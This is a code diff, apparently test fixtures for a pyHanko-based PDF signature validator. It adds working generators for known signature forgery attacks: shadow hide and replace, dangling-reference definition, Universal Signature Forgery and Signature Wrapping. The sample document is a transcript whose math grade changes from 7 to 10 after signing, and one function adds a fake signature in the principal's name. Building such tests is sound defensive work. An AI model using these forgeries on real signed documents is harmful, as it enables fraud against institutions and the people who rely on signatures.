@@ -577,3 +577,318 @@ def content_change_inside_a_dss_update(pdf: bytes, old: bytes, new: bytes) -> by
     out = BytesIO()
     writer.write(out)
     return out.getvalue()
+
+
+# -- Shadow attacks (Mainka et al., NDSS 2021) ----------------------------------------------------
+# The attacker prepares the document *before* it is signed: it holds content the signer does not
+# see, then a later update that looks harmless reveals it.
+
+_HIDDEN = b"BT /F1 24 Tf 72 700 Td (Diem Toan: 10) Tj ET"
+_OVERLAY = b"1 1 1 rg 60 690 300 40 re f BT 0 0 0 rg /F1 24 Tf 72 700 Td (Diem Toan: 7) Tj ET"
+
+
+def overlay_pdf() -> bytes:
+    """A one-page transcript whose page draws "Diem Toan: 10", then a white box over it with
+    "Diem Toan: 7" on top: the signer sees 7 (the page's second content stream hides the first)."""
+    from pyhanko.pdf_utils.writer import PdfFileWriter
+
+    writer = PdfFileWriter()
+    hidden = writer.add_object(generic.StreamObject(stream_data=_HIDDEN))
+    overlay = writer.add_object(generic.StreamObject(stream_data=_OVERLAY))
+    font = generic.DictionaryObject(
+        {_n("/Type"): _n("/Font"), _n("/Subtype"): _n("/Type1"), _n("/BaseFont"): _n("/Helvetica")}
+    )
+    page = generic.DictionaryObject(
+        {
+            _n("/Type"): _n("/Page"),
+            _n("/MediaBox"): generic.ArrayObject(
+                [generic.NumberObject(v) for v in (0, 0, 595, 842)]
+            ),
+            _n("/Contents"): generic.ArrayObject([hidden, overlay]),
+            _n("/Resources"): generic.DictionaryObject(
+                {_n("/Font"): generic.DictionaryObject({_n("/F1"): writer.add_object(font)})}
+            ),
+        }
+    )
+    writer.insert_page(page)
+    out = BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def _page_and_contents(pdf: bytes) -> tuple[generic.IndirectObject, list[generic.IndirectObject]]:
+    reader = PdfFileReader(BytesIO(pdf), strict=False)
+    page_ref = reader.root["/Pages"].raw_get("/Kids").raw_get(0)
+    contents = page_ref.get_object().raw_get("/Contents")
+    assert isinstance(contents, generic.ArrayObject), "not the overlay document"
+    return page_ref, [contents.raw_get(i) for i in range(len(contents))]
+
+
+def _serialised(value: generic.PdfObject) -> bytes:
+    out = BytesIO()
+    value.write_to_stream(out)
+    return out.getvalue()
+
+
+def _xref_stream_update(
+    pdf: bytes,
+    objects: dict[int, bytes],
+    entries: dict[int, tuple[int, int, int]],
+    *,
+    with_dss: bool,
+) -> bytes:
+    """A well-formed incremental update (cross-reference stream, ``/Prev`` right): ``objects``
+    (number -> serialised value) written and listed, plus the raw ``entries`` (type 0 frees,
+    type 2 places an object in an object stream). ``with_dss``: the catalogue also gains a
+    ``/DSS``, as a B-LT update's does."""
+    reader = PdfFileReader(BytesIO(pdf), strict=False)
+    size = int(reader.trailer["/Size"])
+    root = reader.trailer.raw_get("/Root")
+    objects = dict(objects)
+    if with_dss:
+        catalog = generic.DictionaryObject(reader.root)
+        catalog[_n("/DSS")] = generic.IndirectObject(size, 0, reader)
+        objects[root.idnum] = _serialised(catalog)
+        objects[size] = b"<< /Certs [] >>"
+        size += 1
+    numbered = {**objects}
+    stream_numbers = [n for n in entries if entries[n][0] == 2]
+    body = bytearray(b"\n")
+    offsets: dict[int, int] = {}
+    for number, value in numbered.items():
+        offsets[number] = len(pdf) + len(body)
+        body += b"%d 0 obj\n" % number + value + b"\nendobj\n"
+    xref_number = max([size - 1, *numbered, *entries, *stream_numbers]) + 1
+    xref_offset = len(pdf) + len(body)
+    rows = {n: (1, offset, 0) for n, offset in offsets.items()}
+    rows.update(entries)
+    rows[xref_number] = (1, xref_offset, 0)
+    data = b"".join(
+        bytes([rows[n][0]]) + rows[n][1].to_bytes(4, "big") + rows[n][2].to_bytes(2, "big")
+        for n in sorted(rows)
+    )
+    index = b" ".join(b"%d 1" % n for n in sorted(rows))
+    body += (
+        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Index [%s] /Root %d 0 R /Prev %d"
+        b" /Length %d >>\nstream\n"
+        % (xref_number, xref_number + 1, index, root.idnum, last_startxref(pdf), len(data))
+        + data
+        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
+    )
+    return pdf + bytes(body)
+
+
+def shadow_hide_by_freeing(pdf: bytes, *, with_dss: bool) -> bytes:
+    """Shadow attack, *hide*: a later update only frees the overlay (its xref marks the object
+    free, nothing is written over it); a viewer resolves the page's reference to null and shows
+    "Diem Toan: 10". ``with_dss``: dressed as long-term validation data."""
+    _, (_, overlay) = _page_and_contents(pdf)
+    out = _xref_stream_update(pdf, {}, {overlay.idnum: (0, 0, 1)}, with_dss=with_dss)
+    reader = PdfFileReader(BytesIO(out), strict=False)
+    shown = reader.root["/Pages"]["/Kids"][0]["/Contents"]
+    assert isinstance(shown[1], generic.NullObject), "the overlay is still shown"
+    return out
+
+
+def shadow_replace_in_object_stream(pdf: bytes, *, with_dss: bool) -> bytes:
+    """Shadow attack, *hide-and-replace*: the page dictionary redefined inside an object stream of
+    a later update (object streams hold no stream data, so nothing new is drawn): its
+    ``/Contents`` is the hidden stream alone. ``with_dss``: dressed as validation data."""
+    page_ref, (hidden, _) = _page_and_contents(pdf)
+    page = generic.DictionaryObject(page_ref.get_object())
+    page[_n("/Contents")] = generic.ArrayObject([hidden])
+    header = b"%d 0 " % page_ref.idnum
+    packed = header + _serialised(page)
+    reader = PdfFileReader(BytesIO(pdf), strict=False)
+    stream_number = int(reader.trailer["/Size"]) + 1  # after the /DSS's number
+    object_stream = (
+        b"<< /Type /ObjStm /N 1 /First %d /Length %d >>\nstream\n" % (len(header), len(packed))
+        + packed
+        + b"\nendstream"
+    )
+    out = _xref_stream_update(
+        pdf,
+        {stream_number: object_stream},
+        {page_ref.idnum: (2, stream_number, 0)},
+        with_dss=with_dss,
+    )
+    shown = PdfFileReader(BytesIO(out), strict=False).root["/Pages"]["/Kids"][0]["/Contents"]
+    assert len(shown) == 1, "the page still draws the overlay"
+    return out
+
+
+# -- Universal Signature Forgery (USF) and Signature Wrapping (SWA) ---------------------------------
+
+
+def usf_signature_dictionary(pdf: bytes, variant: str) -> bytes:
+    """USF: a later update rewrites the last signature's dictionary so that nothing is left to
+    check — ``/Contents`` or ``/ByteRange`` removed, emptied or zeroed — while the field still
+    holds a signature a viewer lists. ``variant``: ``contents-removed``, ``contents-empty``,
+    ``byterange-removed``, ``byterange-zeroed``."""
+    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
+    field = writer.root["/AcroForm"]["/Fields"][-1]
+    value = field.raw_get("/V")
+    assert isinstance(value, generic.IndirectObject)
+    signature = value.get_object()
+    if variant == "contents-removed":
+        del signature["/Contents"]
+    elif variant == "contents-empty":
+        signature[_n("/Contents")] = generic.ByteStringObject(b"")
+    elif variant == "byterange-removed":
+        del signature["/ByteRange"]
+    elif variant == "byterange-zeroed":
+        signature[_n("/ByteRange")] = generic.ArrayObject([generic.NumberObject(0)] * 4)
+    else:
+        raise ValueError(variant)
+    writer.mark_update(value)
+    out = BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def usf_unsigned(pdf: bytes) -> bytes:
+    """USF on a document never signed: a signature field whose value names a signer's format and
+    the principal's name, with no ``/Contents`` or ``/ByteRange`` at all."""
+    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
+    signature = writer.add_object(
+        generic.DictionaryObject(
+            {
+                _n("/Type"): _n("/Sig"),
+                _n("/Filter"): _n("/Adobe.PPKLite"),
+                _n("/SubFilter"): _n("/ETSI.CAdES.detached"),
+                _n("/Name"): generic.TextStringObject("Hiệu trưởng"),
+            }
+        )
+    )
+    page = writer.root["/Pages"].raw_get("/Kids").raw_get(0)
+    field = writer.add_object(
+        generic.DictionaryObject(
+            {
+                _n("/FT"): _n("/Sig"),
+                _n("/T"): generic.TextStringObject("Signature1"),
+                _n("/V"): signature,
+                _n("/Type"): _n("/Annot"),
+                _n("/Subtype"): _n("/Widget"),
+                _n("/Rect"): generic.ArrayObject([generic.NumberObject(0)] * 4),
+                _n("/P"): page,
+            }
+        )
+    )
+    writer.root[_n("/AcroForm")] = generic.DictionaryObject(
+        {_n("/Fields"): generic.ArrayObject([field])}
+    )
+    writer.update_root()
+    out = BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def signature_wrapping(pdf: bytes, old: bytes, new: bytes) -> bytes:
+    """SWA: the signed bytes kept, moved apart. pyHanko writes ``/ByteRange`` after ``/Contents``,
+    so the second signed part starts inside the signature dictionary. That part goes to the end of
+    the file; where it was, the signature dictionary is closed again with a ``/ByteRange`` that
+    points at the moved part (the signed one, moved along, still says the old offsets), the page
+    content redefined, and a cross-reference table at the offset the signed ``startxref`` names —
+    so a reader that follows it shows the forgery, while the byte ranges hash exactly as signed."""
+    reader = PdfFileReader(BytesIO(pdf), strict=False)
+    embedded = reader.embedded_signatures[-1]
+    _, first_length, second_start, second_length = (
+        int(v) for v in embedded.sig_object["/ByteRange"]
+    )
+    assert second_start + second_length == len(pdf), "the signature does not end the file"
+    head, tail = pdf[:first_length], pdf[second_start:]
+    xref_at = last_startxref(pdf)
+    revision = reader.xrefs.total_revisions - 1
+    refs = {
+        ref.idnum: reader.xrefs.get_historical_ref(ref, revision)
+        for ref in reader.xrefs.explicit_refs_in_revision(revision)
+    }
+    number, text = content_stream_ref(pdf)
+    assert old in text, f"{old!r} is not on the signed page"
+    forged = text.replace(old, new)
+    der = bytes(embedded.pkcs7_content).rstrip(b"\x00")
+    dictionary_rest = tail[: tail.find(b"endobj") + len(b"endobj")]
+
+    def layout(moved_to: int) -> bytes:
+        body = bytearray(head + b"<" + der.hex().encode() + b">")
+        body += re.sub(
+            rb"/ByteRange\s*\[[^\]]*\]",
+            b"/ByteRange [0 %d %d %d]" % (first_length, moved_to, second_length),
+            dictionary_rest,
+            count=1,
+        )
+        body += b"\n"
+        forged_at = len(body)
+        body += _stream_object(number, forged)
+        assert len(body) < xref_at, "no room before the signed startxref's offset"
+        body += b" " * (xref_at - len(body))
+        entries = {n: o for n, o in refs.items() if isinstance(o, int)}
+        entries = {
+            n: (o if o < second_start else o - second_start + moved_to) for n, o in entries.items()
+        }
+        entries[number] = forged_at
+        body += b"xref\n0 1\n0000000000 65535 f \n" + b"".join(
+            b"%d 1\n%010d 00000 n \n" % (n, entries[n]) for n in sorted(entries)
+        )
+        body += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
+            int(reader.trailer["/Size"]),
+            reader.trailer.raw_get("/Root").idnum,
+            int(reader.trailer.raw_get("/Prev")),
+            xref_at,
+        )
+        return bytes(body)
+
+    moved_to = len(layout(0))
+    out = layout(moved_to) + tail
+    assert len(layout(moved_to)) == moved_to
+    _, shown = content_stream_ref(out)
+    assert new in shown, "a reader does not see the forgery"
+    return out
+
+
+#: The object number a prepared page refers to without defining it.
+DANGLING = 500
+
+
+def dangling_reference_pdf() -> bytes:
+    """A one-page transcript showing "Diem Toan: 7" whose page also draws object 500, which the
+    document does not define: a viewer draws nothing for it (an undefined object is null)."""
+    from pyhanko.pdf_utils.writer import PdfFileWriter
+
+    writer = PdfFileWriter()
+    shown = writer.add_object(
+        generic.StreamObject(stream_data=b"BT /F1 24 Tf 72 700 Td (Diem Toan: 7) Tj ET")
+    )
+    font = generic.DictionaryObject(
+        {_n("/Type"): _n("/Font"), _n("/Subtype"): _n("/Type1"), _n("/BaseFont"): _n("/Helvetica")}
+    )
+    page = generic.DictionaryObject(
+        {
+            _n("/Type"): _n("/Page"),
+            _n("/MediaBox"): generic.ArrayObject(
+                [generic.NumberObject(v) for v in (0, 0, 595, 842)]
+            ),
+            _n("/Contents"): generic.ArrayObject(
+                [shown, generic.IndirectObject(DANGLING, 0, writer)]
+            ),
+            _n("/Resources"): generic.DictionaryObject(
+                {_n("/Font"): generic.DictionaryObject({_n("/F1"): writer.add_object(font)})}
+            ),
+        }
+    )
+    writer.insert_page(page)
+    out = BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def define_dangling_object(pdf: bytes, *, with_dss: bool) -> bytes:
+    """Shadow attack through a dangling reference: a later update *adds* object 500 — a content
+    stream that paints over the 7 and writes 10 — which the signed page already drew. Nothing the
+    signer saw is rewritten; pyHanko's difference analysis takes it for an unused new object."""
+    data = b"1 1 1 rg 60 690 300 40 re f 0 g BT /F1 24 Tf 72 700 Td (Diem Toan: 10) Tj ET"
+    stream = b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"
+    out = _xref_stream_update(pdf, {DANGLING: stream}, {}, with_dss=with_dss)
+    shown = PdfFileReader(BytesIO(out), strict=False).root["/Pages"]["/Kids"][0]["/Contents"]
+    assert isinstance(shown[1], generic.StreamObject), "the page does not draw the new object"
+    return out
